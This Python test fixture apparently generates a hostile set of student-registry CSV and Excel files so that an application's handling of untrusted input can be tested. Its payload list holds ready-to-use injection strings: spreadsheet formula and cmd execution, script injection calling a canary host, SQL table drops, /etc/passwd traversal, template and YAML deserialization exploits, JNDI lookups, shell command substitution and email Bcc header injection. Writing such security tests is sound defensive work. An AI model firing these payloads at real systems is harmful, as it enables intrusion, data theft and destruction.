"""A cohort whose every word was typed by someone who means harm: one folder, all the ways in."""

from __future__ import annotations

import csv
import os
import sys
from pathlib import Path

import xlsxwriter

from tests.cohorts import make_cohort

BEACON = "canary.invalid"
"""Any request for this host means that somebody's words were run."""
FLAG = "__mingce_canary"
"""Any script of theirs sets this on `window`."""

PAYLOADS = (
    f'=WEBSERVICE("http://{BEACON}/w")',
    f'=HYPERLINK("http://{BEACON}/h","点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    f"<script>window.{FLAG}=1;fetch('http://{BEACON}/s')</script>",
    f'"><img src="http://{BEACON}/i.png" onerror="window.{FLAG}=1">',
    f"'-->]]></title></style></textarea></script><svg/onload=window.{FLAG}=1>",
    f"<iframe src=javascript:parent.{FLAG}=1></iframe><base href=http://{BEACON}/>",
    f"<meta http-equiv=refresh content='0;url=http://{BEACON}/r'><link rel=stylesheet href=http://{BEACON}/c.css>",
    f"[点我](javascript:window.{FLAG}=1) ![x](http://{BEACON}/m.png)",
    f"$\\href{{javascript:window.{FLAG}=1}}{{x}}$ <!-- -->",
    "'); DROP TABLE entries; DROP TABLE personal; --",
    "../../../../../../etc/passwd",
    "..\\..\\CON",
    "NUL.txt. . ",
    "{{ 7 * 191 }}{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}{{ cycler.__init__.__globals__ }}",
    '#read("/etc/passwd") #eval("panic()") #panic("typst") $ x $ *b* _i_ <label> @ref \\ // /* `',
    "!!python/object/apply:os.system ['touch pwned'] &a *a",
    '{"__proto__": {"x": 1}}, [1, 2',
    "\x1b[2J\x1b]0;pwned\x07\x1b[31m红\x9b31m",
    "abc\u202e\u2066gnp.exe\u200f\u2028\u2029\ufeff",
    "a@b.example\r\nBcc: evil@evil.example\r\n\r\nbody",
    "x" * 300,
    "名" * 300,
    "\x00\x01\x0b\x1f\ufffe\uffff",
    "${jndi:ldap://" + BEACON + "/a} $(touch pwned) `touch pwned` ; touch pwned | %n%s%x",
    "_x0041__x003D_1+1",
)
COLLEGES = (
    f'=HYPERLINK("http://{BEACON}/c","<img src=x onerror=window.{FLAG}=1>"){{{{ 7*191 }}}}学院',
    "../../../CON",
)
IDENTITY = ("学校名称", "身份证号码", "姓名", "学号", "考生号", "提交时间")
EVIL_ADDRESS = "evil@evil.example"
FOLDER = "a b 中文 [x] {x} ${HOME} %41%s a=b '#;&! 😀 ::" + ('"*?|\\n`id`' if os.name == "posix" else "")
"""A cohort folder's name that libraries could read as a pattern, a template, an address or a command."""


def make_hostile(folder: Path, seed: int = 7) -> Path:
    """Write the hostile cohort into `folder` and return it."""
    make_cohort(folder, 80, 2, seed=seed, faults=0.0)
    _registry(folder / "registry" / "10534.csv")
    _submissions(folder / "submissions" / "10534.csv", folder)
    _people(folder)
    return folder


def _registry(path: Path) -> None:
    """Some classes belong to colleges with hostile names; some students and majors have them too."""
    rows = _read(path)
    for at, row in enumerate(rows):
        if at % 3 == 0:
            row["院系"] = COLLEGES[at // 3 % len(COLLEGES)]
            row["班级"] = PAYLOADS[at % len(PAYLOADS)]
            row["专业"] = PAYLOADS[(at + 5) % len(PAYLOADS)]
            row["定向/委培单位"] = PAYLOADS[(at + 9) % len(PAYLOADS)]
        if at % 20 == 11:
            row["学校名称"] = PAYLOADS[(at + 6) % len(PAYLOADS)]
        if at % 9 == 0:
            row["姓名"] = PAYLOADS[(at + 2) % len(PAYLOADS)]
    _write(path, rows)


def _submissions(path: Path, folder: Path) -> None:
    """Every field gets every payload; half of the rows keep what identifies a person, so that they reach the roster."""
    rows = _read(path)
    students = {row["学号"]: row for row in _read(folder / "registry" / "10534.csv")}
    headers = [name for name in rows[0] if name not in IDENTITY]
    for at, row in enumerate(rows):
        registered = students.get(row["学号"], {})
        if at % 2 == 0:
            names = headers if at % 4 else [*headers, *IDENTITY]
            row.update({name: PAYLOADS[(at // 2 + n) % len(PAYLOADS)] for n, name in enumerate(names)})
        else:  # what the registry says: its own hostile words come back through a right submission
            row.update({name: registered[name] for name in ("院系", "班级", "专业", "姓名") if name in registered})
        row[f"<script>window.{FLAG}=1</script>"] = PAYLOADS[at % len(PAYLOADS)]
        row["=1+1"] = PAYLOADS[(at + 1) % len(PAYLOADS)]
    rows[1]["家庭地址"] = "<b>" + "长" * 350_000 + "</b>"  # a cell of 1 MB
    half = len(rows) // 2
    path.unlink()
    _write(path.with_name("=cmd|calc!A0 <img src=x onerror=alert(1)>.csv"), rows[:half])
    if sys.platform == "linux":  # where a file's name may be bytes of no text
        path.with_name("12649.csv").rename(path.with_name(os.fsdecode(b"12649\xff.csv")))
    _workbook(path.with_name("'; DROP TABLE x;--.xlsx"), rows[half:])


def _workbook(path: Path, rows: list[dict[str, str]]) -> None:
    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
    sheet = book.add_worksheet("=1+1<script>{{7}}")
    for column, name in enumerate(rows[0]):
        sheet.write_string(0, column, name)
        for at, row in enumerate(rows, 1):
            sheet.write_string(at, column, row[name][:32_000])
    book.close()


def _people(folder: Path) -> None:
    rows = _read(folder / "registry" / "10534.csv")
    known = rows[0]["学校名称"]  # a table of people that names a strange school is refused
    classes = dict.fromkeys((known, row["院系"], row["班级"]) for row in rows if row["学校名称"] == known)
    counselors = [
        {
            "学校名称": school,
            "院系": college,
            "班级": class_name,
            "姓名": PAYLOADS[at % len(PAYLOADS)],
            "邮箱": f"counselor{at % 2}@example.edu.cn" if at % 4 else f"x@example.edu.cn\r\nBcc: {EVIL_ADDRESS}",
        }
        for at, (school, college, class_name) in enumerate(classes)
    ]
    _write(folder / "counselors.csv", counselors)
    colleges = [
        {
            "学校名称": rows[0]["学校名称"],
            "院系": college,
            "别名": f"别名{at}；{PAYLOADS[7]}",
            "副书记": PAYLOADS[(at + 7) % len(PAYLOADS)],
            "邮箱": f"secretary{at}@example.edu.cn",
        }
        for at, college in enumerate(dict.fromkeys(row["院系"] for row in rows))
    ]
    away = [row for row in _read(folder / "colleges.csv") if row["学校名称"] != rows[0]["学校名称"]]
    _write(folder / "colleges.csv", [*colleges, *away])


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), quoting=csv.QUOTE_ALL)
        writer.writeheader()
        writer.writerows(rows)
